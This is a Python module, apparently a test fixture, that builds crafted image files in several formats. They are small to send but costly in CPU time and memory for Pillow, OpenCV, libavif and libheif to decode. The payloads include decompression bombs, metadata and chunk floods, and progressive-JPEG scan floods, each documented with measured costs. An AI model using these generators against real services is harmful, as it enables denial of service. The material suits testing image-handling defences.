"""Pictures that are cheap to send and dear to decode.

Each is of at most 25 megapixels and 10 MB, which the service reads. Costs are of one processor and Pillow 13 alone.
"""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

import numpy as np
import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()


def jpeg_of_exif_segments(segments: int = 800_000) -> bytes:
    """A JPEG with so many Exif segments of two bytes. Pillow joins them one by one, and copies all before each.

    40,000 of them, half a MB: 0.2 s; 800,000, 10 MB: 43 s, on whichever thread opens it.
    """
    plain = _encoded(_noise(28, 28), "JPEG")
    return plain[:2] + _segment(0xE1, b"Exif\0\0II") * segments + plain[2:]


def jpeg_of_comments(segments: int = 2_500_000) -> bytes:
    """A JPEG with so many empty comments. 10 MB of them: 1.8 s and 180 MB, on whichever thread opens it."""
    plain = _encoded(_noise(28, 28), "JPEG")
    return plain[:2] + _segment(0xFE, b"") * segments + plain[2:]


def jpeg_of_scans(scans: int = 300, width: int = 5000, height: int = 5000) -> bytes:
    """A progressive JPEG of so many scans of a few bytes, each of which visits all pixels and changes none.

    25 megapixels: 15 ms a scan; 300 of them, 110 kB: 4.4 s; 60,000 scans, 1 MB: 15 minutes.
    """
    plain = _encoded(Image.new("L", (width, height), 128), "JPEG", progressive=True)
    # Each scan refines the last bit of no coefficient: one code for 32,767 blocks that have nothing to refine.
    runs = -(-(-(-width // 8) * -(-height // 8)) // 32_767)
    bits = ("0" + "1" * 14) * runs
    bits += "1" * (-len(bits) % 8)
    packed = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    table = _segment(0xC4, bytes([0x10, 1, *[0] * 15, 0xE0]))
    scan = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10])) + packed
    return plain[:-2] + table + scan * scans + plain[-2:]


def png_of_text(chunks: int = 500_000) -> bytes:
    """A PNG with so many text chunks, each of another name: 10 MB: 1 s, on whichever thread opens it."""
    return _png(b"".join(_chunk(b"tEXt", b"%07d\0" % number) for number in range(chunks)))


def png_of_profiles(chunks: int = 8_000) -> bytes:
    """A PNG with so many colour profiles of 1 MB, compressed to 1 kB. 8 MB of them: 4.5 s, where it is opened."""
    return _png(_chunk(b"iCCP", b"x\0\0" + _compressed_zeros(1 << 20)) * chunks)


def png_of_orientations(chunks: int = 100) -> bytes:
    """A PNG with so many chunks that say which way is up, each of which would be inflated: 1 ms each."""
    return with_chunks(_png(b""), *[(b"zTXt", b"Raw profile type exif\0\0" + _compressed_zeros(1 << 20))] * chunks)


def png_of_empty_data(chunks: int = 800_000) -> bytes:
    """A PNG whose pixels follow so many empty IDAT chunks. 10 MB of them: 0.5 s."""
    return _png(_chunk(b"IDAT", b"") * chunks)


def png_that_inflates(megabytes: int = 5_000, side: int = 28) -> bytes:
    """A PNG whose compressed pixels go on for so many MB behind the last row; 5 GB are 5 MB.

    OpenCV, which inflates them to the end, takes 4.5 s.
    """
    whole = zlib.compressobj(9)
    pixels = whole.compress(bytes(side * (side + 1))) + whole.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, wbits=-15)
    zeros = block.compress(bytes(1 << 20)) + block.flush(zlib.Z_FULL_FLUSH)
    return _png(b"", pixels + zeros * megabytes + b"\x03\0" + bytes(4), side)


def png_of_exif_tags(tags: int = 5_000) -> bytes:
    """A small PNG with so many Exif tags that lie outside of it: Pillow warns of each, in a text that Python keeps."""
    entries = b"".join(struct.pack("<HHII", 0x1000 + tag, 2, 1_000_000 + tag, 8) for tag in range(tags))
    return _png(_chunk(b"eXIf", b"II*\0\x08\0\0\0" + struct.pack("<H", tags) + entries + bytes(4)))


def gif_of_comments(blocks: int = 3_300_000) -> bytes:
    """A GIF with so many empty comments before its picture. 10 MB of them: 0.6 s, on whichever thread opens it."""
    return _gif(b"!\xfe\0" * blocks)


def gif_of_nothing(size: int = 10_000_000) -> bytes:
    """A GIF with so many bytes that mean nothing before its picture. 10 MB: 0.6 s, on whichever thread opens it."""
    return _gif(bytes(size))


def bmp_of_line_ends(ends: int = 5_000_000) -> bytes:
    """A run-length encoded BMP that ends its first line so many times. 10 MB: 1 s in a loop of Python's."""
    return _bmp(28, 28, b"\0\0" * ends)


def bmp_of_short_lines(side: int = 5000) -> bytes:
    """A run-length encoded BMP whose lines say one pixel: 20 kB are filled up byte by byte, 25 million times: 2 s."""
    return _bmp(side, side, b"\1\1\0\0" * side)


def webp_of_one_colour(side: int = 5000) -> bytes:
    """A WebP of one colour: 25 megapixels in some 40 bytes. Pillow takes 0.5 s and 500 MB."""
    return _encoded(Image.new("RGBA", (side, side), (200, 30, 30, 128)), "WEBP", lossless=True, quality=0, method=0)


def webp_of_chunks(chunks: int = 1_200_000) -> bytes:
    """A WebP with so many empty chunks of no known kind. 10 MB of them: 100 ms and 50 MB."""
    canvas = struct.pack("<I", 0) + struct.pack("<I", 27)[:3] + struct.pack("<I", 27)[:3]
    pixels = _encoded(_noise(28, 28), "WEBP")[12:]
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + canvas + pixels + b"NONE\0\0\0\0" * chunks
    return b"RIFF" + struct.pack("<I", len(body)) + body


def avif_of_items(items: int = 60_000) -> bytes:
    """An AVIF whose head names so many items, each of which libavif looks for among those before it: 9 s."""
    plain = _encoded(_noise(28, 28), "AVIF")
    place = plain.index(b"iloc") - 4
    entries = b"".join(struct.pack(">HHHII", 2 + item % 65_000, 0, 1, 0, 0) for item in range(items))
    location = _box(b"iloc", b"\0\0\0\0" + b"\x44\0" + struct.pack(">H", min(items, 65_535)) + entries)
    return _with_box(plain, place, location)


def avif_of_boxes(boxes: int = 1_000_000) -> bytes:
    """An AVIF followed by so many empty boxes. 8 MB of them: 20 ms."""
    return _encoded(_noise(28, 28), "AVIF") + _box(b"free", b"") * boxes


def avif_of_frames(size: int = 10_000_000) -> bytes:
    """An AVIF with so many bytes that could list frames, where 100 kB list 10,000. Nothing, with this content."""
    return _encoded(_noise(28, 28), "AVIF") + _box(b"moov", _box(b"free", bytes(size)))


def heic_of_boxes(boxes: int = 1_000_000) -> bytes:
    """A HEIC followed by so many empty boxes, 8 MB of them."""
    return heic_of_tiles(1, 1) + _box(b"free", b"") * boxes


def heic_of_items(items: int = 60_000) -> bytes:
    """A HEIC whose head names so many items."""
    return heic_of_tiles(1, 1, more_items=items)


def heic_of_one_tile(rows: int = 110, columns: int = 110) -> bytes:
    """A HEIC of 50 megapixels that are one tile of 64 × 64, 12,100 times, 30 kB. libheif, which would start a decoder
    for each, has a limit of 1,000: these take 0.4 s.
    """
    return heic_of_tiles(rows, columns)


def heic_that_is_larger_inside(side: int = 2048) -> bytes:
    """A HEIC that says that it has 64 × 64 pixels; its coded picture has 2048 × 2048, of one colour, in a few kB."""
    return heic_of_tiles(1, 1, _encoded(Image.new("L", (side, side), 128), "HEIF", quality=1))


def tiff_of_tags(tags: int = 65_535) -> bytes:
    """A TIFF with so many tags, each of which says that all of the file is its value: 800 kB, read 65,000 times."""
    size = 8 + 2 + 12 * tags + 4
    entries = b"".join(struct.pack("<HHII", 1000 + tag % 60_000, 7, size - 8, 8) for tag in range(tags - 3))
    needed = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in ((256, 28), (257, 28), (273, 8)))
    return struct.pack("<2sHIH", b"II", 42, 8, tags) + needed + entries + bytes(4)


def tiff_of_strips(strips: int = 1_000_000) -> bytes:
    """A TIFF of one column, with a strip for each row: 8 MB."""
    return _tiff(1, strips, [(273, 4, strips, 200), (278, 4, 1, 1), (279, 4, strips, 200)], bytes(4 * strips))


def tiff_of_large_tiles(side: int = 60_000) -> bytes:
    """A TIFF of 28 × 28 pixels in one tile of 3.6 gigapixels."""
    tiles = [(322, 4, 1, side), (323, 4, 1, side), (324, 4, 1, 200), (325, 4, 1, 100)]
    return _tiff(28, 28, tiles, zlib.compress(bytes(100)), compression=8)


def tiff_of_bands(bands: int) -> bytes:
    """A TIFF of 28 × 28 pixels and so many bands, as satellites send it; nothing hostile."""
    return _tiff(28, 28, [(273, 4, 1, 200), (277, 3, 1, bands), (279, 4, 1, 784 * bands)], bytes(784 * bands))


def tiff_of_zeros(side: int = 5000) -> bytes:
    """A TIFF of 25 megapixels of one colour, deflated to 100 kB."""
    return _encoded(Image.new("RGB", (side, side)), "TIFF", compression="tiff_adobe_deflate")


def jpeg_of_many_pixels(width: int = 16_000, height: int = 12_000) -> bytes:
    """A progressive JPEG of 1 kB that says that it has 192 megapixels: all that it could say would take 576 MB."""
    plain = _encoded(_noise(28, 28), "JPEG", progressive=True)
    size = plain.index(b"\xff\xc2") + 5
    return plain[:size] + struct.pack(">HH", height, width) + plain[size + 4 :]


Attack = Callable[[], bytes]

ALL: tuple[Attack, ...] = (
    jpeg_of_exif_segments,
    jpeg_of_comments,
    jpeg_of_scans,
    png_of_text,
    png_of_profiles,
    png_of_orientations,
    png_of_empty_data,
    png_that_inflates,
    png_of_exif_tags,
    gif_of_comments,
    gif_of_nothing,
    bmp_of_line_ends,
    bmp_of_short_lines,
    webp_of_one_colour,
    webp_of_chunks,
    avif_of_items,
    avif_of_boxes,
    avif_of_frames,
    heic_of_boxes,
    heic_of_items,
    heic_of_one_tile,
    heic_that_is_larger_inside,
    tiff_of_tags,
    tiff_of_strips,
    tiff_of_large_tiles,
    tiff_of_zeros,
    jpeg_of_many_pixels,
)
# Nothing is odd about them but their pixels.
DEAR_TO_DECODE = (
    bmp_of_line_ends,
    bmp_of_short_lines,
    webp_of_one_colour,
    heic_of_one_tile,
    heic_that_is_larger_inside,
    tiff_of_zeros,
    jpeg_of_many_pixels,
)


def heic_of_tiles(
    rows: int, columns: int, tile: bytes | None = None, *, exif: bool = False, more_items: int = 0
) -> bytes:
    """A HEIC as phones write it: a grid of tiles, here of 64 × 64 and all the same one, in noise unless given.

    With `exif` it is turned by 90°, and so say its Exif data, which no decoder is to obey a second time; beside it are
    a gain map and a thumbnail.
    """
    plain = tile or _encoded(_noise(64, 64), "HEIF", quality=30)
    at = plain.index(b"hvcC") - 4
    configuration = plain[at : at + int.from_bytes(plain[at : at + 4], "big")]
    coded = plain[plain.index(b"mdat") + 4 :]
    notes = b"\0\0\0\6Exif\0\0MM\0*\0\0\0\x08\0\1\x01\x12\0\3\0\0\0\1\0\6\0\0\0\0\0\0" if exif else b""
    width, height = 64 * columns, 64 * rows
    grid = struct.pack(">BBBBHH", 0, 0, rows - 1, columns - 1, width, height)
    kinds = {1: b"hvc1", 2: b"grid"} | ({3: b"Exif", 4: b"hvc1", 5: b"hvc1"} if exif else {})
    kinds |= {100 + number: b"hvc1" for number in range(more_items)}
    listed = b"".join(
        _box(b"infe", struct.pack(">IHH4sx", 2 << 24, item % 65_536, 0, kind)) for item, kind in kinds.items()
    )
    references = _box(b"dimg", struct.pack(f">HH{rows * columns}H", 2, rows * columns, *[1] * (rows * columns)))
    properties = configuration + _box(b"ispe", struct.pack(">III", 0, 64, 64))
    properties += _box(b"ispe", struct.pack(">III", 0, width, height)) + _box(b"irot", b"\3")
    properties += _box(b"auxC", bytes(4) + b"urn:com:apple:photo:2020:aux:hdrgainmap\0")
    associated = {1: (0x81, 2), 2: (3, 0x84) if exif else (3,)}
    if exif:
        references += b"".join(_box(kind, struct.pack(">HHH", source, 1, 2)) for kind, source in _BESIDE_A_PICTURE)
        associated |= {4: (0x81, 2, 0x85), 5: (0x81, 2)}
    count, pairs = len(associated), associated.items()
    association = struct.pack(">II", 0, count)
    association += b"".join(struct.pack(">HB", item, len(them)) + bytes(them) for item, them in pairs)

    def located(start: int) -> bytes:
        places = {1: (0, start, len(coded)), 2: (1, 0, len(grid))}
        if exif:
            places |= {3: (0, start + len(coded), len(notes)), 4: places[1], 5: places[1]}
        entries = (struct.pack(">HHHHII", item, how, 0, 1, *place) for item, (how, *place) in places.items())
        location = _box(b"iloc", struct.pack(">IBBH", 1 << 24, 0x44, 0, len(places)) + b"".join(entries))
        parts = (
            _box(b"hdlr", bytes(8) + b"pict" + bytes(13)),
            _box(b"pitm", struct.pack(">IH", 0, 2)),
            location,
            _box(b"iinf", struct.pack(">IH", 0, len(kinds) % 65_536) + listed),
            _box(b"iref", bytes(4) + references),
            _box(b"iprp", _box(b"ipco", properties) + _box(b"ipma", association)),
            _box(b"idat", grid),
        )
        return _box(b"ftyp", b"mif1\0\0\0\0mif1heic") + _box(b"meta", bytes(4) + b"".join(parts))

    return located(len(located(0)) + 8) + _box(b"mdat", coded + notes)


def with_chunks(png: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with more chunks of that kind and content before its pixels."""
    return png[:33] + b"".join(_chunk(kind, content) for kind, content in chunks) + png[33:]


# A gain map, a thumbnail, and what the camera says.
_BESIDE_A_PICTURE = ((b"auxl", 4), (b"thmb", 5), (b"cdsc", 3))


def _encoded(image: Image.Image, form: str, **options: object) -> bytes:
    content = io.BytesIO()
    image.save(content, form, **options)
    return content.getvalue()


def _noise(width: int, height: int) -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 256, (height, width, 3), np.uint8))


@cache
def _compressed_zeros(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(before: bytes, packed: bytes | None = None, side: int = 28) -> bytes:
    """Grey, with chunks before its pixels; black where nothing is said of them."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", _compressed_zeros(side * (side + 1)) if packed is None else packed)
    return b"\x89PNG\r\n\x1a\n" + head + before + pixels + _chunk(b"IEND", b"")


def _gif(before: bytes) -> bytes:
    """28×28, with whatever before its picture."""
    plain = _encoded(Image.new("L", (28, 28)), "GIF")
    place = plain.index(b",", 13 + 3 * (2 << (plain[10] & 7)))
    return plain[:place] + before + plain[place:]


def _bmp(width: int, height: int, packed: bytes) -> bytes:
    """256 greys, run-length encoded."""
    palette = b"".join(bytes([grey, grey, grey, 0]) for grey in range(256))
    offset = 14 + 40 + len(palette)
    head = b"BM" + struct.pack("<IHHI", offset + len(packed), 0, 0, offset)
    head += struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(packed), 0, 0, 256, 0)
    return head + palette + packed


def _tiff(width: int, height: int, more: list[tuple[int, int, int, int]], data: bytes, compression: int = 1) -> bytes:
    """Grey of 8 bits, little-endian; `data` begin at byte 200."""
    tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1), *more]
    entries = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    return (struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + entries + bytes(4)).ljust(200, b"\0") + data


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


def _with_box(plain: bytes, place: int, box: bytes) -> bytes:
    """An AVIF with another box in the place of the one there, in its `meta`."""
    old = int.from_bytes(plain[place : place + 4], "big")
    meta = plain.index(b"meta") - 4
    size = int.from_bytes(plain[meta : meta + 4], "big") - old + len(box)
    return plain[:meta] + struct.pack(">I", size) + plain[meta + 4 : place] + box + plain[place + old :]
